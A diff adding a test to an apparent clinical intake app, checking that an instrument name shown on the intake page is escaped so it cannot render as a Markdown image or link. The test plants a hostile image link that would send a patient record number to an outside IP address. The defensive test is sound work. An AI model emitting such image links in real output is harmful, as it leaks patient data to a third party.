@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import datetime as dt
 import json
+import re
 from pathlib import Path
 
 import pytest
@@ -113,3 +114,21 @@ def test_no_clinician_is_allowed_and_noted() -> None:
     assert at.session_state["intake"].clinician is None
     assert any("No clinician is recorded" in w for w in texts(at, "warning"))
     assert json.loads(at.session_state["intake"].model_dump_json())["clinician"] is None
+
+
+def test_intake_text_shown_on_the_intake_page_cannot_form_an_image_or_link(
+    tmp_path: Path,
+) -> None:
+    hostile = "![x](http://203.0.113.9/p.png?mrn=MRN-20417)"
+    data = json.loads((INTAKES / "gad_nurse.json").read_text())
+    data["assessments"].append({"instrument": hostile, "score": 3, "date": "2026-10-05"})
+    path = tmp_path / "hostile.json"
+    path.write_text(json.dumps(data))
+    at = load_intake(sign_in(app(), "ana"), path)
+    no_exceptions(at)
+    raw = [str(e.value) for kind in ("caption", "warning") for e in getattr(at, kind)]
+    shown = [t for t in raw if "203.0.113.9" in t]
+    assert shown, "the unknown instrument's notice should quote its name"
+    # every bracket is escaped, so Markdown renders the text and fetches nothing
+    unescaped = re.compile(r"(?<!\\)(?:!\[|\]\()")
+    assert not any(unescaped.search(t) for t in shown), shown
